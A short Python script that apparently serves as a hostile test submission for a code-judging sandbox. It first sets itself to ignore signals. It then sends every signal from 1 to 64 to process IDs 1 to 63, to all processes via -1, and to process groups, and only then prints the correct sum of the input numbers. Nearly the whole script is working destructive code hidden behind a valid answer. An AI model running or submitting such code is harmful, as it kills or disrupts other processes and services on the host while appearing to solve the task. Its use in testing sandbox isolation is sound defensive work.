# Sends every signal to every process number and to all processes at once, and answers nevertheless.
import os
import signal

numbers = list(map(int, input().split()))
for number in range(1, 65):
    if number in (signal.SIGKILL, signal.SIGSTOP):
        continue
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
own = os.getpid()
for number in range(1, 65):
    for process in [*range(1, 64), -1, *range(-64, -1)]:
        if process == own or -process in (own, os.getpgrp()):
            continue
        try:
            os.kill(process, number)
        except OSError:
            pass
print(sum(numbers))
